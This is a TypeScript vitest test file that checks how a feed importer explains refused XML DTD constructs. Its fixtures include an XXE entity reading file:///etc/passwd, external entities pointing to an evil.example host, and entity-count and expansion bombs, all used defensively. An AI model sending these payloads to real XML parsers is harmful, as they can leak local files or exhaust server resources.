import { XMLParser } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { explainXmlDtdError } from './xml-errors';

/** The parser the importers use, with its default entity limits. */
const parse = (xml: string): unknown => new XMLParser({ processEntities: true }).parse(xml);

function refusal(xml: string): ReturnType<typeof explainXmlDtdError> {
  try {
    parse(xml);
  } catch (error) {
    return explainXmlDtdError(xml, error, 'The feed');
  }
  throw new Error('expected the parser to refuse the document');
}

const body = '<rss version="2.0"><channel><title>t</title></channel></rss>';

describe('explainXmlDtdError', () => {
  it.each([
    {
      name: 'external entity (SYSTEM), the XXE classic',
      xml: `<?xml version="1.0"?>\n<!DOCTYPE rss [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n${body.replace('<title>t', '<title>&xxe;')}`,
      message: /^The feed declares an external entity \("xxe", SYSTEM\), which Briefing Desk never loads/,
      line: 3,
      column: 3,
    },
    {
      name: 'external entity (PUBLIC)',
      xml: `<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY xxe PUBLIC "-//X//EN" "http://evil.example/x">\n]>\n${body}`,
      message: /external entity \("xxe", PUBLIC\)/,
      line: 3,
      column: 1,
    },
    {
      name: 'external parameter entity',
      xml: `<?xml version="1.0"?>\n\n<!DOCTYPE rss [\n<!ENTITY % p SYSTEM "http://evil.example/x.dtd">\n%p;\n]>\n${body}`,
      message: /external parameter entity \("p", SYSTEM\)/,
      line: 4,
      column: 1,
    },
    {
      name: 'parameter entity',
      xml: `<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY a "x">\n<!ENTITY % p "y">\n]>\n${body}`,
      message: /parameter entity \("%p"\), which is not supported/,
      line: 4,
      column: 1,
    },
    {
      name: 'an entity over the size limit',
      xml: `<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY small "x">\n<!ENTITY big "${'b'.repeat(20_000)}">\n]>\n${body}`,
      message: /declares the entity "big" with 20000 characters, more than the 10000 allowed/,
      line: 4,
      column: 1,
    },
    {
      name: 'too many entities',
      xml: `<?xml version="1.0"?>\n<!DOCTYPE rss [\n${Array.from({ length: 1001 }, (_, i) => `<!ENTITY e${i} "x">`).join('\n')}\n]>\n${body}`,
      message: /declares more than 1000 entities/,
      line: 1003,
      column: 1,
    },
    {
      name: 'expansion beyond the length limit',
      xml: `<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY a "${'a'.repeat(9000)}">\n]>\n<rss version="2.0"><channel><title>t &amp; &lt;</title>\n\n<item><title>x ${'&a;'.repeat(20)}</title></item></channel></rss>`,
      message: /expands its entities to more than 100000 characters/,
      line: 7,
      column: 16,
    },
  ])('$name', ({ xml, message, line, column }) => {
    const explained = refusal(xml);
    expect(explained).not.toBeNull();
    expect(explained!.message).toMatch(message);
    expect(explained!.message).toMatch(/Nothing was imported/);
    expect({ line: explained!.line, column: explained!.column }).toEqual({ line, column });
  });

  it('leaves errors that are not about the DTD to the caller', () => {
    expect(explainXmlDtdError(body, new Error('Something else'))).toBeNull();
  });
});
